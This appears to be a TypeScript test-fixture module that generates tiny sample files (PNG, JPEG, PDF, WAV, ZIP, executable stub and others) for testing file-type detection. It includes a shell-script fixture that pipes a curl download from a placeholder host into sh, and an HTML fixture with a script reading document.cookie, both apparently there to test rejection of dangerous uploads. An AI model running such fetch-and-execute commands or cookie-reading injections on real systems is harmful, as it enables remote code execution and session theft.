/** Small but well-formed files of each kind, with the magic numbers content detection looks for. */
import { crc32, deflateSync } from 'node:zlib';

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A 1×1 grey PNG; `salt` varies the bytes (a text chunk) so that tests can tell files apart. */
export function png(salt = ''): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0); // width
  header.writeUInt32BE(1, 4); // height
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('tEXt', Buffer.from(`Comment\0${salt}`, 'latin1')),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 0x80]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const jpeg = () =>
  Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0', 'latin1'), Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0]), Buffer.from([0xff, 0xd9])]);

export const pdf = () =>
  Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');

/** An ISO base media file: a `ftyp` box naming its brand, then an empty `mdat`. */
function isoMedia(brand: string, compatible: string[]): Buffer {
  const brands = Buffer.from([brand, ...compatible].join(''), 'latin1');
  const ftyp = Buffer.alloc(16 + compatible.length * 4);
  ftyp.writeUInt32BE(ftyp.length, 0);
  ftyp.write('ftyp', 4, 'latin1');
  ftyp.write(brand, 8, 'latin1');
  ftyp.writeUInt32BE(0, 12);
  brands.subarray(4).copy(ftyp, 16);
  const mdat = Buffer.from([0, 0, 0, 8, 0x6d, 0x64, 0x61, 0x74]);
  return Buffer.concat([ftyp, mdat]);
}

/** What an iPhone photo starts with. */
export const heic = () => isoMedia('heic', ['mif1', 'heic']);
export const mov = () => isoMedia('qt  ', ['qt  ']);

export function wav(): Buffer {
  const samples = Buffer.alloc(16);
  const fmt = Buffer.alloc(24);
  fmt.write('fmt ', 0, 'latin1');
  fmt.writeUInt32LE(16, 4);
  fmt.writeUInt16LE(1, 8); // PCM
  fmt.writeUInt16LE(1, 10); // mono
  fmt.writeUInt32LE(8000, 12);
  fmt.writeUInt32LE(16000, 16);
  fmt.writeUInt16LE(2, 20);
  fmt.writeUInt16LE(16, 22);
  const data = Buffer.concat([Buffer.from('data', 'latin1'), Buffer.from([samples.length, 0, 0, 0]), samples]);
  const riff = Buffer.alloc(12);
  riff.write('RIFF', 0, 'latin1');
  riff.writeUInt32LE(4 + fmt.length + data.length, 4);
  riff.write('WAVE', 8, 'latin1');
  return Buffer.concat([riff, fmt, data]);
}

/** A phone voice memo (AMR narrowband): its header begins with "#!", like a script. */
export const amr = () => Buffer.concat([Buffer.from('#!AMR\n', 'latin1'), Buffer.alloc(13)]);

export const chatExport = () =>
  Buffer.from('2026-02-14 20:31 张三：你们说保证不会肿的\n2026-02-14 20:35 美丽诊所客服：亲，个体差异哦\n2026-02-16 09:02 张三：现在眼睛都睁不开了\n', 'utf8');

export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n', 'utf8');
export const html = () => Buffer.from('<!doctype html><script>alert(document.cookie)</script>', 'utf8');
export const exe = () => Buffer.concat([Buffer.from('MZ', 'latin1'), Buffer.alloc(62)]);
export const zip = () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 0, 0]), Buffer.alloc(20)]);
/** GBK-encoded text ("聊天记录") is not UTF-8. */
export const gbkText = () => Buffer.from([0xc1, 0xc4, 0xcc, 0xec, 0xbc, 0xc7, 0xc2, 0xbc]);
export const withNul = () => Buffer.from('hello\0world', 'latin1');
